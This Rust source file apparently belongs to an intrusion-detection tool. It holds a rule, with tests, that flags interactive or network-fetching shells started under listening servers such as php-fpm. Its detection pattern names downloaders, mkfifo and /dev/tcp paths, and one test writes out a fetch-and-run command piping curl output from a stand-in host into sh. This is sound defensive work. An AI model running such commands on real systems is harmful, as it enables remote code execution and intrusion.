//! Shells below servers that were there when watching began.

use super::shell_actions::SUBJECT;
use crate::detect::alert::{Alert, Alerts};
use crate::detect::rule_context::RuleContext;
use crate::detect::rules::bare_shells::{bare, shell};
use crate::detect::serving::inward;
use crate::detect::{Severity, attribution, program_roles};
use crate::event::{Exec, Process, Stream};
use crate::state::{Direction, ProcessEntry};

/// A shell below a server when watching began. Servers run tools through a shell, which may be
/// active just then: only a shell that waits for commands, or fetches something, counts. A server may
/// start with a shell of its own, which it asks through a pipe from time to time.
pub(super) fn found(ctx: &RuleContext<'_>, process: &Process) -> Alerts {
    let exec = &process.as_exec();
    let own = ctx.made_at_start(process.started)
        && matches!(process.streams.first(), Some(Stream::Pipe(_)));
    let waits = bare(ctx.names(), exec) && !own;
    if shell(ctx.names(), exec).is_none()
        || ctx.session().is_some()
        || !(waits || fetches(ctx, exec))
    {
        return Alerts::none();
    }
    let Some(parent) = ctx.ancestors().nth(1) else {
        return Alerts::none();
    };
    if ctx.names().is_shell(program_roles::of(parent))
        || attribution::lets_people_in(parent)
        || !listens(ctx, parent)
    {
        return Alerts::none();
    }
    server_alert(ctx, parent, exec).into()
}

/// Whether the shell's text fetches something or opens a connection.
fn fetches(ctx: &RuleContext<'_>, exec: &Exec) -> bool {
    let word = |byte: &u8| !(byte.is_ascii_alphanumeric() || b"/._-".contains(byte));
    exec.argv.iter().skip(1).any(|argument| {
        let mut words = argument.split(word);
        words.any(|word| {
            let name = program_roles::leaf(word);
            ctx.names().is_downloader(name)
                || name == b"mkfifo"
                || word.starts_with(b"/dev/tcp/")
                || word.starts_with(b"/dev/udp/")
        })
    })
}

/// The process itself listens for connections, or is a worker of one of the same program that does.
fn listens(ctx: &RuleContext<'_>, process: &ProcessEntry) -> bool {
    let rows = ctx.state.connections_of(ctx.owner, Direction::Listening);
    let mut holders = rows
        .filter(|(key, row)| row.pid != 0 && !inward(key, row))
        .map(|(_, row)| row.pid);
    let line = ctx.state.ancestry(process.pid);
    let own: Vec<u32> = line
        .take_while(|above| above.exe == process.exe && above.owner == process.owner)
        .map(|above| above.pid)
        .collect();
    holders.any(|holder| own.contains(&holder))
}

fn server_alert(ctx: &RuleContext<'_>, parent: &ProcessEntry, exec: &Exec) -> Alert {
    ctx.alert(Severity::High, SUBJECT, |explanation| {
        let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
        let parent_line = program_roles::command_line(&parent.argv, &parent.exe, 120);
        explanation.title = format!("{} started a shell: {command}", parent.exe.escaped());
        explanation
            .why
            .push(format!("its parent listens for connections: {parent_line}"));
        explanation.why.push(format!("ran: {command}"));
    })
    .part(parent.exe.clone())
}

#[cfg(test)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;
    use crate::event::{Stream, Timestamp};

    #[test]
    fn a_shell_below_a_server_that_was_there_already() {
        let below = |argv: &[&str]| {
            let mut w = World::found();
            let init = w.init();
            w.found_socket(0, "0.0.0.0:80", None);
            let web = w.found_process(init, "/usr/sbin/php-fpm", &["php-fpm"], |_| {});
            let worker = w.found_process(web, "/usr/sbin/php-fpm", &["php-fpm"], |_| {});
            w.found_process(worker, "/bin/sh", argv, |_| {});
            w.all("exec.shell-spawned").first().map(|f| f.severity)
        };
        assert_eq!(below(&["sh"]), Some(Severity::High));
        assert_eq!(below(&["sh", "-i"]), Some(Severity::High));
        let fetches = &["sh", "-c", "cd /tmp; curl -s http://x/|sh"];
        assert_eq!(below(fetches), Some(Severity::High));
        assert_eq!(below(&["sh", "-c", "convert a.png b.png"]), None);
        // The server's own since the container began, through a pipe; not at a socket, nor later.
        let own = |seconds: i64, input: Stream| {
            let mut w = World::found();
            let init = w.init();
            w.found_socket(0, "0.0.0.0:5672", None);
            let began = w.state.processes[&init].started;
            let broker = w.found_process(init, "/usr/bin/beam.smp", &["beam.smp"], |broker| {
                broker.started = began;
            });
            w.found_process(broker, "/bin/sh", &["sh", "-s", "unix:cmd"], |shell| {
                shell.started = Timestamp(began.0 + seconds * 1_000_000_000);
                shell.streams = vec![input];
            });
            w.all("exec.shell-spawned").first().map(|f| f.severity)
        };
        assert_eq!(own(2, Stream::Pipe(7)), None);
        assert_eq!(own(600, Stream::Pipe(7)), Some(Severity::High));
        assert_eq!(own(2, Stream::Socket), Some(Severity::High));
        // Another program, not the server, starts it.
        let mut w = World::found();
        let init = w.init();
        w.found_socket(0, "0.0.0.0:80", None);
        w.found_process(init, "/usr/bin/python3", &["python3", "app.py"], |_| {});
        let other = w.found_process(init, "/usr/bin/python3", &["python3", "jobs.py"], |_| {});
        w.found_process(other, "/bin/sh", &["sh"], |_| {});
        w.only(&[]);
    }
}
